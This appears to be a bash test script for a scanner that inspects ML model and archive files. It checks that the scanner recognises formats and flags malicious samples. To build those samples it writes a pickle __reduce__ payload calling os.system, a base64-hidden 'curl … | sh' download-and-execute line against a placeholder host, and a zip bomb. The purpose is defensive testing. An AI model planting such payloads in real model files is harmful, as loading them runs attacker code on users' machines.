#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# Container readers through the CLI: formats recognised by content (not by name), hostile
# archives never clean, invalid safetensors an error, real tool output clean.
set -u
. "$ROOT/tests/cli/lib.sh"
cd "$TMP"
C="$ROOT/corpus"

# Format names come from content: a torch zip named .txt is still a torch zip.
expect_exit 1 "$MSCAN" scan -f json "$C/malicious/fmt_torch_zip_payload.txt"
expect_grep '"format":[[:space:]]*"torchzip"' last.out
expect_exit 0 "$MSCAN" scan -f json "$C/benign/fmt_torch_legacy.pt"
expect_grep '"format":[[:space:]]*"torchlegacy"' last.out
expect_exit 0 "$MSCAN" scan -f json "$C/benign/fmt_st_valid.safetensors"
expect_grep '"format":[[:space:]]*"safetensors"' last.out
expect_exit 0 "$MSCAN" scan -f json "$C/benign/fmt_npz.npz"
expect_grep '"format":[[:space:]]*"zip"' last.out

# Errors name the tensor / member.
expect_exit 2 "$MSCAN" scan "$C/malformed/fmt_st_overlap.safetensors"
expect_grep "tensor 'b'" last.out
expect_exit 2 "$MSCAN" scan "$C/malformed/fmt_7z_archive.7z"
expect_grep '7z archive: cannot be scanned' last.out
expect_exit 2 "$MSCAN" scan "$C/malformed/fmt_zip_encrypted.zip"
expect_grep 'encrypted' last.out

# Fresh samples from the real tools: clean, and findings win over errors.
if ! has_py_modules torch numpy joblib; then
	skip "fresh torch/numpy/joblib samples, zip prefix, zip bomb: $PY lacks torch, numpy or joblib"
else
	"$PY" - <<'PYEOF'
import torch, numpy as np, joblib
sd = {"w": torch.randn(3, 3), "v": torch.arange(4)}
torch.save(sd, "new.pt")
torch.save(sd, "old.pt", _use_new_zipfile_serialization=False)
np.save("a.npy", np.ones((2, 2), dtype=np.float64))
np.savez_compressed("b.npz", x=np.zeros(10), y=np.arange(5))
joblib.dump({"a": [1, 2, 3]}, "c.joblib", compress=("gzip", 3))
PYEOF
	for f in new.pt old.pt a.npy b.npz c.joblib; do expect_exit 0 "$MSCAN" scan "$f"; done
	# 100 bytes before a torch zip: zipfile still reads it, so must we.
	head -c 100 /dev/urandom > pre.pt; cat "$C/malicious/fmt_torch_zip_payload.pt" >> pre.pt
	expect_exit 1 "$MSCAN" scan pre.pt
	expect_grep 'MS-ZIP-PREFIX-DATA' last.out
	# A zip bomb stops quickly with a limit error.
	"$PY" - <<'PYEOF'
import zipfile
with zipfile.ZipFile("bomb.zip", "w", zipfile.ZIP_DEFLATED) as z:
    z.writestr("zeros.bin", b"\0" * (200 << 20))
PYEOF
	expect_exit 2 timeout 20 "$MSCAN" scan bomb.zip
	expect_grep 'limit exceeded' last.out
fi

# data/ records against data.pkl's storages: an extra record is examined by content, a missing
# or short one is a finding; thousands of storages stay fast (keys are sorted, not compared
# pairwise).
"$PY" - "$C/benign/fmt_torch_zip.pt" <<'PYEOF'
import io, pickle, sys, zipfile
src = zipfile.ZipFile(sys.argv[1])
members = {i.filename: src.read(i) for i in src.infolist()}
def write(name, m):
    with zipfile.ZipFile(name, "w") as z:
        for k, v in m.items():
            z.writestr(k, v)
extra = dict(members); extra["archive/data/99"] = b"\x7fELF\x02\x01\x01" + b"\0" * 57
write("extra.pt", extra)
missing = {k: v for k, v in members.items() if k != "archive/data/0"}
write("missing.pt", missing)
short = dict(members); short["archive/data/0"] = members["archive/data/0"][:8]
write("short.pt", short)
# 20000 storages referenced in reverse order, every record present.
n = 20000
body = bytearray(b"\x80\x02}q\x00(")
for i in reversed(range(n)):
    key = str(i).encode()
    body += b"X" + len(key).to_bytes(4, "little") + key
    body += b"(X\x07\x00\x00\x00storagectorch\nFloatStorage\nX" + len(key).to_bytes(4, "little") + key
    body += b"X\x03\x00\x00\x00cpuK\x01tQ"
body += b"u."
many = {"archive/data.pkl": bytes(body), "archive/version": b"3\n"}
for i in range(n):
    many["archive/data/%d" % i] = b"\0\0\0\0"
write("many.pt", many)
# Storage references as torch's persistent_load meets them: at every BINPERSID run, reachable
# from the result or not, the first of a key setting its size, in data.pkl's first pickle only.
def ref(numel):
    return (b"(X\x07\x00\x00\x00storagectorch\nFloatStorage\nX\x01\x00\x00\x000"
            b"X\x03\x00\x00\x00cpuK" + bytes([numel]) + b"tQ")
base = {"archive/version": b"3\n", "archive/data/0": b"\0" * 16}
write("popped.pt", dict(base, **{"archive/data.pkl": b"\x80\x02" + ref(4) + b"0}."}))
write("firstref.pt", dict(base, **{"archive/data.pkl": b"\x80\x02](" + ref(4) + ref(8) + b"e."}))
write("second.pt", dict(base, **{"archive/data.pkl": b"\x80\x02}.\x80\x02" + ref(4) + b"."}))
# One persistent id more than are checked (MS_MAX_PKL_PERSIDS, 2^22): an error, never clean.
write("manypids.pt", {"archive/data.pkl": b"\x80\x02" + b"K\x00Q0" * ((1 << 22) + 1) + b"}.",
                      "archive/version": b"3\n"})
PYEOF
expect_exit 1 "$MSCAN" scan --fail-on medium extra.pt
expect_grep 'MS-TORCH-STORAGE-EXTRA' last.out
expect_grep 'MS-ARCHIVE-EXECUTABLE|ELF' last.out
expect_exit 1 "$MSCAN" scan --fail-on medium missing.pt
expect_grep 'MS-TORCH-STORAGE-MISSING' last.out
expect_exit 1 "$MSCAN" scan --fail-on medium short.pt
expect_grep 'MS-TORCH-STORAGE-SIZE' last.out
expect_exit 0 timeout 60 "$MSCAN" scan --fail-on medium many.pt
expect_exit 0 "$MSCAN" scan --fail-on medium popped.pt
expect_exit 0 "$MSCAN" scan --fail-on medium firstref.pt
expect_exit 1 "$MSCAN" scan --fail-on medium second.pt
expect_grep 'MS-TORCH-STORAGE-EXTRA' last.out
expect_exit 2 timeout 60 "$MSCAN" scan manypids.pt
expect_grep 'MS_MAX_PKL_PERSIDS' last.out

# Tars written by GNU tar (not by us), in its default, posix and v7 formats, long names too:
# every member by content.
mkdir -p tt/"$(printf 'd%.0s' $(seq 120))"
printf 'hello\n' > tt/README.md
cp "$C/benign/pkl_build_state.pkl" tt/"$(printf 'd%.0s' $(seq 120))"/state.pkl
for fmt in gnu posix v7; do
	[ "$fmt" = v7 ] && long=() || long=(tt)
	tar --format=$fmt -cf ok-$fmt.tar tt/README.md "${long[@]}" 2>/dev/null
	expect_exit 0 "$MSCAN" scan -f json ok-$fmt.tar
	expect_grep '"format":[[:space:]]*"tar"' last.out
	cp "$C/malicious/pkl_memo_stack_global.pkl" tt/"$(printf 'd%.0s' $(seq 120))"/evil.pkl
	[ "$fmt" = v7 ] && cp tt/*/evil.pkl tt/evil.pkl && long=(tt/evil.pkl)
	tar --format=$fmt -cf bad-$fmt.tar tt/README.md "${long[@]}" 2>/dev/null
	expect_exit 1 "$MSCAN" scan bad-$fmt.tar
	expect_grep 'evil.pkl@[0-9]+: critical' last.out
	rm -f tt/*/evil.pkl tt/evil.pkl
done

# joblib.dump writes each ndarray's bytes into the stream after its NumpyArrayWrapper: skipped
# as joblib reads them, so arrays are clean, a payload after them is seen, and object arrays
# (a nested pickle) are scanned.
if ! has_py_modules joblib numpy sklearn; then
	skip "joblib arrays and sklearn model: $PY lacks joblib, numpy or sklearn"
else
	"$PY" - <<'PYEOF'
import joblib, numpy as np, os
from sklearn.linear_model import LogisticRegression
class Evil:
    def __reduce__(self):
        return (os.system, ("echo pwned",))
arrs = {"f": np.arange(10.0), "i": np.arange(7, dtype=np.int16).reshape(7, 1), "b": np.ones(3, bool),
        "s": np.array([b"ab", b"c"]), "u": np.array(["x", "yz"]), "e": np.zeros((0, 4)),
        "r": np.zeros(2, dtype=[("a", "<i4"), ("b", "<f8", (2,))]), "z": np.float32(3)}
for c in (0, 3, ("gzip", 3), ("bz2", 3), ("xz", 3), ("lzma", 3)):
    n = "arr-%s.joblib" % (c if isinstance(c, int) else c[0])
    joblib.dump(arrs, n, compress=c)
joblib.dump(LogisticRegression().fit(np.eye(4), [0, 1, 0, 1]), "sk.joblib")
# The payload is pickled after the arrays, never unpickled here.
joblib.dump([np.arange(10), Evil()], "arr-then-payload.joblib")
joblib.dump(np.array([1, Evil()], dtype=object), "object-array-payload.joblib")
# A command only visible decoded (base64) in an object array's nested pickle (its constants
# reach the pickle-strings rules through the linear second reading).
import base64
hidden = base64.b64encode(b"echo pwned || curl -fsSL http://example.invalid/x.sh | sh").decode()
joblib.dump(np.array([1, hidden], dtype=object), "object-array-b64.joblib")
PYEOF
	for f in arr-*.joblib; do
		case $f in *payload*) continue ;; esac
		expect_exit 0 "$MSCAN" scan --fail-on medium "$f"
	done
	expect_exit 0 "$MSCAN" scan sk.joblib
	for f in arr-then-payload.joblib object-array-payload.joblib; do
		expect_exit 1 "$MSCAN" scan "$f"
		expect_grep 'MS-PKL-CALL-DENY' last.out
	done
	expect_exit 1 "$MSCAN" scan object-array-b64.joblib
	expect_grep 'MS-YARA-download_and_execute .*pickle-strings' last.out
fi
# LZMA zip members (method 14: Python's zipfile writes them and np.load reads them).
"$PY" - "$C/malicious/pkl_os_system_p2.pkl" <<'PYEOF'
import io, sys, zipfile
import numpy as np
b = io.BytesIO(); np.save(b, np.arange(1000.0))
with zipfile.ZipFile("lzma.npz", "w", zipfile.ZIP_LZMA) as z:
    z.writestr("a.npy", b.getvalue())
with zipfile.ZipFile("lzma-evil.zip", "w", zipfile.ZIP_LZMA) as z:
    z.writestr("a.npy", b.getvalue())
    z.writestr("model.pkl", open(sys.argv[1], "rb").read())
PYEOF
expect_exit 0 "$MSCAN" scan --fail-on medium lzma.npz
expect_exit 1 "$MSCAN" scan lzma-evil.zip
expect_grep 'model.pkl@[0-9]+: critical MS-PKL-CALL-DENY' last.out
t_done
